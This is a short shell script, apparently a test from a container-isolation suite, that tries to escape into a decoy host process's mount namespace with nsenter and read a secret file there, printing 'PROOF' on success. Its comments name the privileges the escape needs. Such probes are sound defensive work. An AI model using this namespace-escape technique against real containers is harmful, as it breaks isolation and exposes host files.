# Attack: move into a host process's mount namespace and read a file that exists
# only there. The file is on a tmpfs the decoy mounted in a namespace of its own.
echo "decoy: host pid $MC_DECOY_PID, file $MC_TARGET"
# In our own mount namespace the file is not there (the mountpoint is not even in our tree).
cat "$MC_TARGET" 2>&1
# The namespace file: visible only if the host process is in our /proc, and
# openable only with ptrace read access to it.
ls -l "/proc/$MC_DECOY_PID/ns/mnt" 2>&1
# nsenter opens it and calls setns(fd, CLONE_NEWNS), which needs CAP_SYS_ADMIN
# over the namespace's owner (the host's user namespace), then runs cat there.
if secret=$(nsenter -t "$MC_DECOY_PID" -m cat "$MC_TARGET" 2>&1); then
    echo "nsenter -t $MC_DECOY_PID -m: in the decoy's mount namespace"
    echo "PROOF $secret"
else
    echo "nsenter -t $MC_DECOY_PID -m: $secret"
fi
